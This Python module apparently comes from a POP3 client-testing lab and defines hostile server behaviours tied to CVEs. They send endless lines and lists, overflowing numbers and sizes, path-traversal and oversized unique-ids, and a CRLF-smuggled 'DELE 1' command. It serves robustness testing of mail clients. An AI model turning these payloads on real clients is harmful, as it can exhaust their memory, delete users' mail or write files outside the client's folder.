"""Attacks on parsers: lines and lists without an end, and listings with hostile values.

Endless replies are generated while they are sent.
"""

from collections.abc import Callable, Iterator, Mapping, Sequence
from itertools import chain, count
from math import inf
from typing import Annotated, Literal

from pop3lab.behaviours.retrieval_texts import prepended
from pop3lab.behaviours.uidl import uids, unique_id_hook
from pop3lab.core.actions import Action, Part, Pause, Send
from pop3lab.core.hooks import Hooks
from pop3lab.core.reply import Reply
from pop3lab.core.request import GREETING, Request
from pop3lab.core.state import SessionState
from pop3lab.effects.bodies import CRLF
from pop3lab.effects.hooks import ActionHook
from pop3lab.effects.listings import Item, ItemHook, ListingHook
from pop3lab.effects.maildrop_views import ListedMessage, LoginContext, ViewHook
from pop3lab.rules.behaviour import Layer
from pop3lab.rules.declaration import BehaviourDecorator
from pop3lab.rules.values import Count

attack = BehaviourDecorator("attack", category="parsing")

_Actions = Iterator[Action]
_Length = Annotated[Count, "length of the line, 0 for no end"]
_Verb = Literal["LIST", "UIDL", "CAPA", "RETR"]
_OfVerb = Annotated[_Verb, "the command that gets this reply"]

_PIECE = 65_536
_LINES = 1000  # in one piece


def _filled(octet: bytes, octets: int, part: Part) -> _Actions:
    """Send so many octets, 0 for no end; other sessions get their turn between the pieces."""
    sizes = range(octets, 0, -_PIECE) if octets else iter(lambda: _PIECE, 0)
    for left in sizes:
        yield Send(octet * min(left, _PIECE), part)
        yield Pause(0)
    yield Pause(inf)


@attack(
    "greets with an endless line",
    source="an attack",
    bugs="CVE-2013-1752: poplib read it all",
    aspect=("how the greeting ends", "the greeting"),
    layer=Layer.FIRST,
    against=("bare-status", "greeting-silent"),
)
def greeting_endless(octets: _Length = 0) -> Hooks:
    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        yield Send(b"+OK ", Part.HEAD)
        yield from _filled(b"x", octets, Part.HEAD)

    return ActionHook(do, GREETING.verb)


@attack(
    "greets without a line end, then sends nothing",
    source="an attack",
    aspect="how the greeting ends",
)
def greeting_no_newline() -> Hooks:
    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        for action in actions:
            if isinstance(action, Send):
                yield Send(action.data.removesuffix(b"\r\n"), action.part)
            else:
                yield action
        yield Pause(inf)

    return ActionHook(do, GREETING.verb)


_BEGINS: Mapping[str, bytes] = {"LIST": b"1 ", "UIDL": b"1 "}
_FILLS: Mapping[str, bytes] = {"LIST": b"1"}


@attack(
    "sends a reply with an endless line",
    source="an attack",
    bugs="CVE-2013-1752 in poplib; CVE-2003-0792 and CVE-2008-2711 in fetchmail",
    layer=Layer.FIRST,
)
def line_endless(
    verb: _OfVerb = "RETR",
    part: Annotated[
        Literal["body", "status"],
        "body: the first line after the status line; status: the status line",
    ] = "body",
    octets: _Length = 0,
) -> Hooks:
    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        head = next(actions, None)
        if head is None or not _is_ok(head):
            yield from chain(() if head is None else (head,), actions)
        elif part == "status":
            yield Send(b"+OK ", Part.HEAD)
            yield from _filled(b"x", octets, Part.HEAD)
        else:
            yield head
            yield Send(_BEGINS.get(verb, b""), Part.BODY)
            yield from _filled(_FILLS.get(verb, b"x"), octets, Part.BODY)

    return ActionHook(do, verb)


def _is_ok(action: Action) -> bool:
    return isinstance(action, Send) and action.data.startswith(b"+OK")


_LINE_MAKERS: dict[_Verb, Callable[[int], bytes]] = {
    "LIST": lambda n: b"%d 1000\r\n" % n,
    "UIDL": lambda n: b"%d endless-%d\r\n" % (n, n),
    "CAPA": lambda n: b"X-ENDLESS-%d\r\n" % n,
    "RETR": lambda n: b"line %d of no end\r\n" % n,
}


@attack(
    "sends a list or message that never ends",
    source="an attack",
    bugs="libraries without a limit use all memory",
    needs=("list of several lines",),
)
def multiline_endless(
    verb: _OfVerb = "LIST",
    lines: Annotated[Count, "number of additional lines, 0 for no end"] = 0,
) -> Hooks:
    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        known = 0
        last = b"\r\n"
        for action in actions:
            if isinstance(action, Send) and action.part is Part.END:
                yield from _lines(_LINE_MAKERS[verb], known, lines, last)
            yield action
            if isinstance(action, Send) and action.part is Part.BODY:
                known += action.data.count(b"\n")
                last = (last + action.data)[-2:]

    return ActionHook(do, verb)


def _lines(line: Callable[[int], bytes], known: int, more: int, last: bytes) -> _Actions:
    if last != b"\r\n":
        yield Send(b"\r\n", Part.BODY)
    end = known + more + 1
    starts = range(known + 1, end, _LINES) if more else count(known + 1, _LINES)
    for start in starts:
        stop = min(start + _LINES, end) if more else start + _LINES
        yield Send(b"".join(map(line, range(start, stop))), Part.BODY)
        yield Pause(0)


# Numbers, sizes and unique-ids that break parsers.


@attack(
    "lists numbers that break an index or an integer, in LIST and UIDL",
    source="an attack",
    bugs="CVE-2001-1009 and CVE-2002-0146 in fetchmail; 6.4.37 crashes on a number above the count",
    needs=("list of several lines",),
    takes=("empty maildrop",),
)
def list_index_attack(
    numbers: Annotated[
        bytes, "the numbers, with commas"
    ] = b"0,-1,2147483648,4294967295,9223372036854775808",
) -> Hooks:
    more = [number + b" 5" for number in numbers.split(b",")]
    return ListingHook(lambda lines: [*lines, *more])


@attack(
    "gives messages, in turn, sizes that break an integer",
    source="an attack",
    bugs="CVE-2010-0816 in Outlook Express",
    layer=Layer.FIRST,
    aspect="the sizes of messages",
)
def size_int_attack(
    sizes: Annotated[
        str, "the sizes, with commas"
    ] = "-1,2147483647,4294967296,18446744073709551616",
) -> Hooks:
    told = [int(word) for word in sizes.split(",")]

    def view(visit: LoginContext) -> Sequence[ListedMessage]:
        return [
            one.with_entry(octets=told[place % len(told)])
            for place, one in enumerate(visit.messages)
        ]

    return ViewHook(view)


_Break = Literal["crlf", "lf", "cr"]
_BREAKS: dict[_Break, bytes] = {"crlf": b"\r\n", "lf": b"\n", "cr": b"\r"}


@attack(
    "adds a line end and a command to LIST and UIDL, for clients that send back the text they read",
    source="an attack; poplib CVE-2025-15367, by the client's own user (C)",
    bugs="sends the command as its own",
)
def user_arg_injection(
    command: Annotated[bytes, "the command"] = b"DELE 1",
    at: Annotated[
        Literal["value", "number"], "value: after the size or unique-id; number: after the number"
    ] = "value",
    by: Annotated[_Break, "the line end"] = "crlf",
) -> Hooks:
    tail = _BREAKS[by] + command

    def change(item: Item, place: int) -> Item:
        if at == "number":
            return item._replace(number=item.number + tail)
        return item._replace(value=item.value + tail)

    return ItemHook(change)


@attack(
    "sends unique-ids far longer than 70 characters",
    source="an attack",
    bugs="CVE-2005-2335 in fetchmail, CVE-2004-0757 in Mozilla, CVE-2009-1029 in POP Peeper",
    aspect="how long unique-ids are",
)
def uidl_overflow(octets: Annotated[Count, "length of a unique-id"] = 100_000) -> Hooks:
    return uids(lambda uid: uid.rjust(octets, b"A"))


_Path = Literal["relative", "absolute", "drive", "device"]
_PATHS: dict[_Path, bytes] = {
    "relative": b"../../../../tmp/",
    "absolute": b"/tmp/",
    "drive": b"C:\\Windows\\Temp\\",
    "device": b"CON.",
}


@attack(
    "sends unique-ids that are paths of files outside the client's folder",
    source="an attack",
    bugs="CVE-2018-14362 in mutt and NeoMutt",
)
def uidl_path(form: Annotated[_Path, "the kind of path"] = "relative") -> Hooks:
    return uids(lambda uid: _PATHS[form] + uid)


@attack(
    "sends empty unique-ids",
    source="an attack",
    bugs="CVE-2018-14356 in mutt",
    layer=Layer.FIRST,
    aspect="which unique-ids are sent",
    takes=("unique-id of a message's own",),
    against=("uidl-empty",),
)
def uidl_zero() -> Hooks:
    return uids(lambda uid: b"")


@attack(
    "sends unique-ids that end within a multibyte character",
    source="an attack",
    bugs="CVE-2010-1167 in fetchmail",
)
def uidl_multibyte(
    octets: Annotated[bytes, "the octets at their end"] = b"\xc3(\xe2\x82",
) -> Hooks:
    return uids(lambda uid: uid + octets)


class _SameUid(ViewHook):
    """Gives all messages the same unique-id, in UIDL and in a header field."""

    replies = frozenset({"UIDL"})

    def __init__(self, uid: bytes) -> None:
        field = b"X-UIDL: " + uid + CRLF
        super().__init__(lambda visit: [prepended(one, field) for one in visit.messages])
        self._listed = unique_id_hook((), uid)

    def reply(self, request: Request, reply: Reply) -> Reply:
        return self._listed.reply(request, reply)


@attack(
    "gives all messages the same unique-id, in UIDL and in their headers as X-UIDL",
    source="an attack",
    bugs="CVE-1999-1164: Outlook hung",
    layer=Layer.FIRST,
    takes=("unique-id of a message's own", "empty message"),
    aspect="which unique-ids are sent",
)
def duplicate_uid_hang(uid: Annotated[bytes, "the unique-id"] = b"the-same") -> Hooks:
    return _SameUid(uid)
